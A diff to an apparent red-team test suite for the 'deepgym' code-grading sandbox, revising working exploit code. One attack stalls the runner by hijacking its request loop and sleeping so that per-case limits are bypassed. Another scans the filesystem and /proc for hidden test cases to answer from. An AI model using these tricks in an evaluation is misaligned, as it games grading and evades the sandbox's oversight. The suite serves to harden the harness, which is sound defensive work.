@@ -393,11 +393,12 @@ attack("sigstop-self", FUNCTION_ENV, "resources",
        ("solution_timeout",))
 
 attack("stall-the-runner-on-a-big-request", BIG_REQUEST_ENV, "resources",
-       "Take over the worker's request loop (its frame's locals), shrink the request pipe to one page "
-       "(F_SETPIPE_SZ), answer every small case correctly, and stop reading in the middle of the first big one: "
-       "the runner blocks writing it, outside every per-case limit, while the sandbox sleeps.",
+       "Take over the worker's request loop (its frame's locals), answer the first case correctly and never read "
+       "another request: the runner sends every case's request as the worker loads, hundreds of KB here, more "
+       "than the pipe holds, so it must not block writing them, outside every per-case limit, while the "
+       "sandbox sleeps.",
        fenced(_code('''
-           import fcntl, json, os, sys, time
+           import json, os, sys, time
 
            def _answer(nums, target):
                seen = {}
@@ -413,25 +414,11 @@ attack("stall-the-runner-on-a-big-request", BIG_REQUEST_ENV, "resources",
                while not any(isinstance(v, dict) and "id" in v for v in frame.f_locals.values()):
                    frame = frame.f_back
                call = next(v for v in frame.f_locals.values() if isinstance(v, dict) and "id" in v)
-               # from the first call on, this function runs the worker's loop
-               requests_fd, replies_fd = int(sys.argv[-2]), int(sys.argv[-1])
-               fcntl.fcntl(requests_fd, 1031, 4096)  # F_SETPIPE_SZ
+               replies_fd = int(sys.argv[-1])
                reply = {"id": call["id"], "ok": True, "value": _answer(nums, target)}
                os.write(replies_fd, json.dumps(reply).encode() + b"\\n")
-               pending = b""
-               while True:
-                   chunk = os.read(requests_fd, 4096)
-                   if not chunk:
-                       os._exit(0)
-                   pending += chunk
-                   while b"\\n" in pending:
-                       line, pending = pending.split(b"\\n", 1)
-                       call = json.loads(line)
-                       reply = {"id": call["id"], "ok": True, "value": _answer(*call["args"])}
-                       os.write(replies_fd, json.dumps(reply).encode() + b"\\n")
-                   if len(pending) > 8192:  # a big case: stop reading, with the runner stuck in its write
-                       while True:
-                           time.sleep(3600)
+               while True:  # the runner's requests stay unread, with the runner's write stuck behind them
+                   time.sleep(3600)
        ''')),
        ("solution_timeout",),
        slow=True)
@@ -612,8 +599,8 @@ attack("proc-snoop-other-processes", FUNCTION_ENV, "secrets",
        ("solution_error",))
 
 attack("hunt-hidden-tests", FUNCTION_ENV, "secrets",
-       "Walk / (pruning /proc and /sys) plus /proc/*/cwd and /proc/*/root for cases.py, *.out or spec.json, "
-       "and open the known location directly; answer from any hidden cases it can read.",
+       "Walk / (pruning /proc and /sys) plus /proc/*/cwd and /proc/*/root for cases.py, the stored cases-*.json, "
+       "*.out or spec.json, and open the known locations directly; answer from any hidden cases it can read.",
        function_attack('''
            import os
            denied = set()
@@ -629,7 +616,8 @@ attack("hunt-hidden-tests", FUNCTION_ENV, "secrets",
                    for file in files:
                        seen += 1
                        if file == "cases.py" or (file.endswith(".out") and "cases" in directory) or (
-                               file == "spec.json" and "deepgym" in directory):
+                               file == "spec.json" and "deepgym" in directory) or (
+                               file.startswith("cases-") and file.endswith(".json")):
                            path = os.path.join(directory, file)
                            if file == "cases.py":
                                _steal(path)
@@ -642,6 +630,12 @@ attack("hunt-hidden-tests", FUNCTION_ENV, "secrets",
            for path in ("/opt/deepgym/env/cases.py", "/proc/1/root/opt/deepgym/env/cases.py",
                         f"/proc/{os.getppid()}/root/opt/deepgym/env/cases.py"):
                if not _steal(path):
+                   denied.add(path)
+           for path in ("/opt/deepgym/env/cases-0.json", "/proc/1/root/opt/deepgym/env/cases-0.json"):
+               try:  # the cases stored at image build (deepgym_runner/hidden_cases.py)
+                   open(path).read()
+                   BREACHES.append(f"read {path}")
+               except OSError:
                    denied.add(path)
            NOTES.append(f"{seen} files seen; denied: {', '.join(sorted(map(str, denied))[:12])}")
        ''', steal=True),
